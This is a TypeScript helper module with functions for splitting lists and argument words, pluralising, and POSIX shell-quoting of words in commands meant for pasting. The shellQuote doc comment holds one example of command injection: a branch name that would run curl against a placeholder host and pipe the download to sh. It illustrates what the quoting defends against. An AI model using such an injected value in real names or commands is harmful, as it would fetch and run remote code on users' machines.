// Splitting input text into lists and argument words. No shell is involved:
// the words go to programs as they are.

/** Split a list on commas and newlines, dropping empty entries. */
export function splitList(text: string): string[] {
  return text
    .split(/[,\n]/)
    .map(s => s.trim())
    .filter(Boolean)
}

/** Non-empty lines, trimmed. */
export function splitLines(text: string): string[] {
  return text
    .split('\n')
    .map(s => s.trim())
    .filter(Boolean)
}

/**
 * Split words as Python's shlex.split does (POSIX rules): white space separates,
 * quotes group, a backslash escapes outside single quotes. Undefined for an
 * unclosed quote or a trailing backslash.
 */
export function splitArgs(text: string): string[] | undefined {
  const args: string[] = []
  let current: string | undefined
  let quote: string | undefined
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quote === "'") {
      if (c === "'") quote = undefined
      else current += c
    } else if (c === '\\') {
      const next = text[++i]
      if (next === undefined) return undefined
      // Inside double quotes a backslash escapes only \ " $ ` and a newline.
      if (quote === '"' && !'\\"$`\n'.includes(next)) current = (current ?? '') + c
      if (next !== '\n') current = (current ?? '') + next
    } else if (quote === '"') {
      if (c === '"') quote = undefined
      else current += c
    } else if (c === '"' || c === "'") {
      quote = c
      current ??= ''
    } else if (/\s/.test(c)) {
      if (current !== undefined) args.push(current)
      current = undefined
    } else {
      current = (current ?? '') + c
    }
  }
  if (quote) return undefined
  if (current !== undefined) args.push(current)
  return args
}

/** `1 commit`, `3 commits`. */
export function plural(n: number, word: string): string {
  return `${n} ${word}${n === 1 ? '' : 's'}`
}

/**
 * A word as a POSIX shell reads it back unchanged: as it is where it holds only characters no shell gives a meaning
 * to, else in single quotes (a ' inside written '\''). For commands the action prints for a person to paste: a branch
 * named `x$(curl${IFS}-s${IFS}evil|sh)` stays a name.
 */
export function shellQuote(word: string): string {
  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(word)) return word
  return `'${word.replace(/'/g, `'\\''`)}'`
}
